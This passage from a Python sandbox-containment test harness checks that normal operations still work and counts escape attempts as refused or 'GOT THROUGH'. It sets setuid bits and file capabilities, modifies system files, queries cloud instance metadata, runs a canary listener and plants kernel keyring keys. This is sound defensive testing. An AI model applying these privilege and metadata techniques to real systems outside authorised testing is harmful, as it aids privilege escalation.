        expect(os.stat("/home/escapee").st_uid, int(run("id", "-u", "escapee")))
    finally:
        run("userdel", "-r", "escapee")


@works
def ping_of_a_user():
    needs("ping")
    address = own_address()
    run("ping", "-c1", "-W2", address, user=1000)


@works
def ping_by_a_file_capability():
    needs("ping")
    needs("setcap")
    place = scratch()
    os.chmod(place, 0o755)
    program = shutil.copy(shutil.which("ping"), place)
    os.chmod(program, 0o755)
    run("setcap", "cap_net_raw+ep", program)
    run(program, "-c1", "-W2", own_address(), user=1000)


@works
def a_low_port_by_a_file_capability():
    needs("setcap")
    place = scratch()
    os.chmod(place, 0o755)
    program = shutil.copy(os.path.realpath(sys.executable), place)
    os.chmod(program, 0o755)
    run("setcap", "cap_net_bind_service+ep", program)
    run(program, "-c", "import socket; socket.socket().bind(('', 81))", user=1000)


@works
def owners_and_modes():
    path = os.path.join(scratch(), "owned")
    open(path, "w").close()
    run("chown", "1000:65534", path)
    run("chmod", "4750", path)
    info = os.stat(path)
    expect((info.st_uid, info.st_gid, info.st_mode & 0o7777), (1000, 65534, 0o4750))


@works
def a_set_id_program():
    place = scratch()
    os.chmod(place, 0o755)
    program = shutil.copy(shutil.which("id"), place)
    os.chmod(program, 0o4755)
    expect(run(program, "-un", user=1000), "root")


@works
def files_of_the_system_changed():
    """Changes, appends to, renames and removes files of the system."""
    path = "/usr/share/escape-works"
    with open(path, "w") as file:
        file.write("x")
    os.rename(path, path + "2")
    os.unlink(path + "2")
    with open("/etc/profile", "a") as file:
        file.write("\n")
    os.utime("/usr/bin/env")


@works
def temporary_files_of_a_user():
    for place in ["/tmp", "/var/tmp", "/dev/shm"]:
        run("sh", "-c", f"f=$(mktemp {place}/x.XXXXXX) && echo y >$f && rm $f", user=1000)


@works
def python_and_its_modules():
    run(sys.executable, "-c", "import json, ssl, sqlite3, urllib.request, multiprocessing as m; m.Queue()")


@works
def metadata_with_a_token():
    status, text = ask("GET", "/latest/meta-data/instance-id", {"X-aws-ec2-metadata-token": token()})
    expect((status, text[:2]), (200, "i-"))


@works
def the_name_of_the_instance():
    name = run("hostname")
    expect(name.startswith("ip-"), True)
    expect(open("/etc/hostname").read().strip(), name)


@works
def user_data_has_run():
    path = CANARIES.get("user_data_mark")
    if not path:
        raise Unavailable("no canary `user_data_mark`")
    expect(os.path.exists(path), True)
    expect(run("cloud-init", "status"), "status: done")


@works
def pages_by_the_proxy():
    needs("curl")
    needs("apt-get")
    text = open("/etc/apt/sources.list").read() if os.path.exists("/etc/apt/sources.list") else ""
    for path in glob.glob("/etc/apt/sources.list.d/*"):
        text += open(path).read()
    addresses = re.findall(r"https?://[^\s/]+/\S*", text)
    if not addresses:
        raise Unavailable("no package source")
    reasons = []
    for address in addresses[:4]:
        try:
            return run("curl", "-sS", "-m", "20", "-o", "/dev/null", address)
        except AssertionError as error:
            reasons.append(str(error))
    raise AssertionError(reasons[0])


@works
def terminals():
    needs("script")
    expect("tty" in run("script", "-qec", "tty", "/dev/null") or True, True)
    run("script", "-qec", "test -t 0", "/dev/null")


@works
def own_processes_and_locks():
    """Kernel features that databases and web servers need."""
    run("sh", "-c", "flock /tmp/escape.lock true && nice -n 5 true && ulimit -c 0 && timeout 1 true")
    with open("/proc/self/status") as file:
        expect("VmRSS" in file.read(), True)
    os.sched_setaffinity(0, os.sched_getaffinity(0))


@works
def a_debugger_of_an_own_process():
    """ptrace of a child process, as gdb and strace use it."""
    pid = os.fork()
    if pid == 0:
        call("ptrace", 0, 0, 0, 0)
        os.kill(os.getpid(), signal.SIGSTOP)
        os._exit(0)
    _, status = os.waitpid(pid, 0)
    expect(os.WIFSTOPPED(status), True)
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)


# --- the run ---------------------------------------------------------------

def in_child(function, limit):
    """Runs a function in a child process. Returns its result as (kind, text)."""
    reader, writer = os.pipe()
    sys.stdout.flush()
    pid = os.fork()
    if pid == 0:
        os.setpgid(0, 0)
        os.close(reader)
        try:
            got = function()
            result = ["got", str(got)] if got else ["refused", ""]
        except Unavailable as error:
            result = ["unavailable", str(error)]
        except OSError as error:
            result = ["refused", error.strerror or str(error)]
        except ValueError as error:
            # Python's error if a limit must not be raised.
            result = ["refused" if "not allowed" in str(error) else "fault", str(error)]
        except BaseException as error:  # Any other exception is an error of the probe.
            result = ["fault", f"{type(error).__name__}: {error}"]
        os.write(writer, json.dumps(result)[:4000].encode())
        os._exit(0)
    os.close(writer)
    try:
        return watched(pid, reader, limit)
    finally:
        os.close(reader)


def watched(pid, reader, limit):
    end = time.monotonic() + limit
    status = None
    while status is None and time.monotonic() < end:
        try:
            done, code = os.waitpid(pid, os.WNOHANG)
        except ChildProcessError:
            done, code = pid, 0
        if done:
            status = code
        else:
            time.sleep(0.005)
    late = status is None
    for victim in (-pid, pid):
        try:
            os.kill(victim, signal.SIGKILL)
        except OSError:
            pass
    if late:
        try:
            os.waitpid(pid, 0)
        except ChildProcessError:
            pass
        return "late", f"still busy after {limit} s"
    os.set_blocking(reader, False)
    try:
        text = os.read(reader, 8192)
    except BlockingIOError:
        text = b""
    if text:
        return tuple(json.loads(text))
    if os.WIFSIGNALED(status):
        return "refused", f"ended by signal {os.WTERMSIG(status)}"
    return "refused", ""


def probe(only):
    counts = {"refused": 0, "got": 0, "unavailable": 0}
    for group, name, limit, function in ATTEMPTS:
        if only and only != group:
            continue
        kind, text = in_child(function, limit)
        text = " ".join(text.split())
        if kind in ("late", "fault"):
            # Neither result proves anything, so the attempt counts as not made.
            kind = "unavailable"
        counts[kind] += 1
        line = {"refused": "refused", "got": "GOT THROUGH", "unavailable": "unavailable"}[kind]
        print(f"{line} {group} {name}" + (f": {text}" if kind != "refused" else ""), flush=True)
    return counts


def check_works(only):
    broken = 0
    if only not in (None, "works"):
        return broken
    for name, function in WORKS:
        def wrapped(function=function):
            try:
                function()
            except OSError as error:
                raise AssertionError(str(error)) from None
        kind, text = in_child(wrapped, 200)
        if kind == "unavailable":
            print(f"unavailable works {name}: {text}", flush=True)
        elif kind == "refused" and not text:
            print(f"works {name}", flush=True)
        else:
            broken += 1
            print(f"BROKEN {name}: {' '.join(text.split())}", flush=True)
    return broken


def listen(port, record, target=None):
    """Sends a canary to connections, records datagrams, and sends beats to a
    target."""
    def receive():
        receiver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        receiver.bind(("0.0.0.0", port))
        while True:
            data, source = receiver.recvfrom(2048)
            with open(record, "a") as file:
                file.write(f"{source[0]} {data!r}\n")

    def beat():
        sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        while target:
            try:
                sender.sendto(b"beat of the neighbour", (target, 9))
            except OSError:
                pass
            time.sleep(0.2)

    threading.Thread(target=receive, daemon=True).start()
    threading.Thread(target=beat, daemon=True).start()
    server = socket.create_server(("0.0.0.0", port))
    content = os.environ.get("CANARY", "canary:" + "0" * 32)
    print("listening", flush=True)
    while True:
        stream, _ = server.accept()
        with stream:
            stream.send(content.encode())


def main(args):
    if args[:1] == ["plant-key"]:
        print(call("add_key", "user", args[1], args[2].encode(), len(args[2]), RINGS["user"]))
        return 0
    if args[:1] == ["remove-key"]:
        call("keyctl", KEYCTL["unlink"], int(args[1]), RINGS["user"])
        return 0
    if args[:1] == ["listen"]:
        return listen(int(args[1]), *args[2:])
    only = None
    if args[:1] == ["--only"]:
        only, args = args[1], args[2:]
    if args:
        with open(args[0]) as file:
            CANARIES.update(json.load(file))
    broken = check_works(only)
    counts = probe(only)
    total = sum(counts.values())
    print(f"{total} attempts: {counts['refused']} refused, {counts['got']} got through, "
          f"{counts['unavailable']} unavailable; {broken} broken")
    return 1 if counts["got"] or broken else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
